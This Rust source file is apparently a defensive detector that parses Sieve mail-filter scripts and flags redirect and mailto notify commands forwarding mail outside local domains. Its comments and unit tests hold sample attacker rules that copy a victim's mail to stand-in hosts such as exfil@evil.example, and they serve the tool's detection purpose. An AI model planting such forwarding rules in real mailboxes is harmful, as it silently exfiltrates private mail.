//! Which commands of a Sieve script (RFC 5228) send mail outside the local domains.
//!
//! An attacker holding a password uploads a rule that keeps copying the victim's mail after the
//! password is changed (`redirect :copy "x@evil.example"`). This reads a script the way the
//! server's grammar does — comments, quoted strings with escapes, multi-line `text:` strings,
//! nested blocks — and reports every `redirect` (with or without `:copy`) and every
//! `notify` with a `mailto:` method (RFC 5435: a notification can carry the message) whose
//! target is not in a local domain, wherever it stands (under any condition). `vacation`
//! answers the sender and does not count. A target built from variables (`${…}`) or an
//! external list (`:list`) cannot be checked and is reported.
//!
//! It never runs the script, and a script it cannot fully read still yields what was read.

use serde::{Deserialize, Serialize};

/// A command that sends mail out of the organisation.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct Redirect {
    /// `redirect`, `redirect :copy` or `notify`.
    pub command: String,
    /// The address (or the `notify` recipient) as written.
    pub target: String,
    /// The command's line in the script (from 1).
    pub line: usize,
}

#[derive(Clone, Debug, PartialEq, Eq)]
enum Token {
    Word(String),
    Tag(String),
    Str(String),
    Number,
    Punct(char),
}

/// Splits a script into tokens with their line numbers; stops at the first thing that is not
/// Sieve (what was read so far is kept).
fn tokens(script: &str) -> Vec<(Token, usize)> {
    let b = script.as_bytes();
    let mut out = Vec::new();
    let (mut i, mut line) = (0usize, 1usize);
    while i < b.len() {
        let c = b[i];
        match c {
            b'\n' => {
                line += 1;
                i += 1;
            }
            b' ' | b'\t' | b'\r' => i += 1,
            b'#' => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'/' if b.get(i + 1) == Some(&b'*') => {
                let Some(end) = script[i + 2..].find("*/") else {
                    break;
                };
                line += script[i..i + 2 + end].matches('\n').count();
                i += 2 + end + 2;
            }
            b'"' => {
                let start_line = line;
                let mut s = Vec::new();
                i += 1;
                loop {
                    match b.get(i) {
                        None => return out,
                        Some(b'"') => break,
                        Some(b'\\') if i + 1 < b.len() => {
                            s.push(b[i + 1]);
                            i += 2;
                        }
                        Some(&x) => {
                            if x == b'\n' {
                                line += 1;
                            }
                            s.push(x);
                            i += 1;
                        }
                    }
                }
                i += 1;
                out.push((Token::Str(String::from_utf8_lossy(&s).into_owned()), start_line));
            }
            b';' | b',' | b'[' | b']' | b'(' | b')' | b'{' | b'}' => {
                out.push((Token::Punct(char::from(c)), line));
                i += 1;
            }
            b':' => {
                let w = word_end(b, i + 1);
                if w == i + 1 {
                    break;
                }
                out.push((Token::Tag(script[i + 1..w].to_ascii_lowercase()), line));
                i = w;
            }
            b'0'..=b'9' => {
                while i < b.len() && (b[i].is_ascii_digit() || matches!(b[i], b'K' | b'M' | b'G')) {
                    i += 1;
                }
                out.push((Token::Number, line));
            }
            _ if c.is_ascii_alphabetic() || c == b'_' => {
                let w = word_end(b, i);
                let word = script[i..w].to_ascii_lowercase();
                if word == "text" && b.get(w) == Some(&b':') {
                    // text: [spaces] [# comment] CRLF, lines, a line holding only "."
                    let start_line = line;
                    let Some(nl) = script[w..].find('\n') else { break };
                    let mut j = w + nl + 1;
                    line += 1;
                    let mut s = String::new();
                    loop {
                        let end = script[j..].find('\n').map_or(b.len(), |k| j + k);
                        let l = script[j..end].trim_end_matches('\r');
                        j = (end + 1).min(b.len());
                        line += 1;
                        if l == "." || end >= b.len() {
                            break;
                        }
                        s.push_str(l.strip_prefix('.').filter(|r| r.starts_with('.')).unwrap_or(l));
                        s.push('\n');
                    }
                    i = j;
                    out.push((Token::Str(s), start_line));
                } else {
                    out.push((Token::Word(word), line));
                    i = w;
                }
            }
            _ => break,
        }
    }
    out
}

fn word_end(b: &[u8], mut i: usize) -> usize {
    while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
        i += 1;
    }
    i
}

/// Every `redirect` and `mailto:` `notify` of `script` whose target is outside
/// `local_domains` (compared without case; a bare local part is local), in script order.
pub fn find_external_redirects(script: &str, local_domains: &[String]) -> Vec<Redirect> {
    let toks = tokens(script);
    let mut out = Vec::new();
    let mut at_start = true;
    let mut i = 0;
    while i < toks.len() {
        let (tok, line) = &toks[i];
        i += 1;
        match tok {
            Token::Punct(';' | '{' | '}') => {
                at_start = true;
                continue;
            }
            Token::Word(cmd) if at_start => {
                // the command's arguments: up to its ';' or block
                let mut args = Vec::new();
                let mut depth = 0i32;
                while let Some((t, _)) = toks.get(i) {
                    match t {
                        Token::Punct('(' | '[') => depth += 1,
                        Token::Punct(')' | ']') => depth -= 1,
                        Token::Punct(';' | '{' | '}') if depth <= 0 => break,
                        _ => {}
                    }
                    args.push(t);
                    i += 1;
                }
                out.extend(
                    sends_out(cmd, &args, *line)
                        .into_iter()
                        .filter(|r| is_external(&r.target, local_domains)),
                );
            }
            _ => {}
        }
        at_start = false;
    }
    out
}

/// The targets a `redirect` or `notify` command sends mail to.
fn sends_out(cmd: &str, args: &[&Token], line: usize) -> Vec<Redirect> {
    let tags: Vec<&str> = args
        .iter()
        .filter_map(|t| match t {
            Token::Tag(s) => Some(s.as_str()),
            _ => None,
        })
        .collect();
    // positional arguments follow the tagged ones: the last string is the target
    let last = args.iter().rev().find_map(|t| match t {
        Token::Str(s) => Some(s.trim().to_owned()),
        _ => None,
    });
    match cmd {
        "redirect" => {
            let Some(target) = last else { return Vec::new() };
            let command = if tags.contains(&"copy") {
                "redirect :copy"
            } else {
                "redirect"
            };
            let target = if tags.contains(&"list") {
                format!("list:{target}")
            } else {
                target
            };
            vec![Redirect {
                command: command.into(),
                target,
                line,
            }]
        }
        "notify" => {
            // RFC 5435: the method is the last string; the old draft put it after :method
            let method = args
                .windows(2)
                .find_map(|w| match (w[0], w[1]) {
                    (Token::Tag(t), Token::Str(s)) if t == "method" => Some(s.clone()),
                    _ => None,
                })
                .or(last);
            let Some(method) = method else { return Vec::new() };
            let Some(uri) = method
                .get(..7)
                .filter(|p| p.eq_ignore_ascii_case("mailto:"))
                .map(|_| &method[7..])
            else {
                return Vec::new();
            };
            let to = uri.split('?').next().unwrap_or("");
            to.split(',')
                .map(|a| percent_decode(a.trim()))
                .filter(|a| !a.is_empty())
                .map(|target| Redirect {
                    command: "notify".into(),
                    target,
                    line,
                })
                .collect()
        }
        _ => Vec::new(),
    }
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' {
            if let Some(v) = s.get(i + 1..i + 3).and_then(|h| u8::from_str_radix(h, 16).ok()) {
                out.push(v);
                i += 3;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Whether `target` leaves the local domains (what cannot be checked counts as leaving).
fn is_external(target: &str, local_domains: &[String]) -> bool {
    if target.contains("${") || target.starts_with("list:") {
        return true;
    }
    let addr = target.trim().trim_start_matches('<').trim_end_matches('>');
    match addr.rsplit_once('@') {
        None => false,
        Some((_, domain)) => {
            let domain = domain.trim_end_matches('.');
            !local_domains
                .iter()
                .any(|d| d.trim_end_matches('.').eq_ignore_ascii_case(domain))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn local() -> Vec<String> {
        vec!["example.test".into(), "Ville.example".into()]
    }

    fn targets(script: &str) -> Vec<(String, String, usize)> {
        find_external_redirects(script, &local())
            .into_iter()
            .map(|r| (r.command, r.target, r.line))
            .collect()
    }

    #[test]
    fn redirects_anywhere_are_found_local_ones_are_not() {
        let script = r#"require ["copy", "fileinto"];
# a comment with redirect "nope@evil.example";
/* redirect "nope2@evil.example"; */
if header :contains "subject" "facture" {
    redirect :copy "exfil@evil.example";
} elsif address :is "from" "boss@example.test" {
    redirect "colleague@EXAMPLE.test";
    fileinto "INBOX.boss";
} else {
  redirect "Other@mail.ville.example";
  redirect "local-part-only";
  redirect "deputy@ville.example.";
}
redirect
  "second@evil.example"
  ;
"#;
        assert_eq!(
            targets(script),
            vec![
                ("redirect :copy".into(), "exfil@evil.example".into(), 5),
                ("redirect".into(), "Other@mail.ville.example".into(), 10),
                ("redirect".into(), "second@evil.example".into(), 14),
            ]
        );
    }

    #[test]
    fn vacation_and_keep_do_not_count_notify_mailto_does() {
        let script = r#"require ["vacation", "enotify", "variables"];
vacation :days 1 :from "me@elsewhere.example" :addresses ["me@evil.example"] "I am away";
keep;
notify :importance "1" :message "new mail" "mailto:spy@evil.example,ok@example.test?subject=x";
notify "xmpp:someone@evil.example";
notify :method "mailto:old%40evil.example" :options ["x"];
"#;
        assert_eq!(
            targets(script),
            vec![
                ("notify".into(), "spy@evil.example".into(), 4),
                ("notify".into(), "old@evil.example".into(), 6),
            ]
        );
    }

    #[test]
    fn escapes_text_blocks_and_what_cannot_be_checked() {
        let script = "require [\"variables\", \"extlists\"];\r\n\
            set \"to\" \"x@evil.example\";\r\n\
            redirect \"${to}\";\r\n\
            redirect :list \"tag:example.test,2026:attackers\";\r\n\
            redirect text: # the address\r\n\
            ..dots@evil.example\r\n\
            .\r\n\
            ;\r\n\
            redirect \"quo\\\"te@evil.example\";\r\n";
        assert_eq!(
            targets(script),
            vec![
                ("redirect".into(), "${to}".into(), 3),
                (
                    "redirect".into(),
                    "list:tag:example.test,2026:attackers".into(),
                    4
                ),
                ("redirect".into(), ".dots@evil.example".into(), 5),
                ("redirect".into(), "quo\"te@evil.example".into(), 9),
            ]
        );
    }

    #[test]
    fn a_broken_script_yields_what_was_read() {
        assert_eq!(
            targets("redirect \"a@evil.example\"; redirect \"unterminated@evil"),
            vec![("redirect".into(), "a@evil.example".into(), 1)]
        );
        assert!(targets("").is_empty());
        assert!(targets("\u{0}\u{1}redirect \"x@evil.example\";").is_empty());
        // a word in argument position is not a command
        assert!(targets("if true { keep; } require redirect;").is_empty());
    }
}
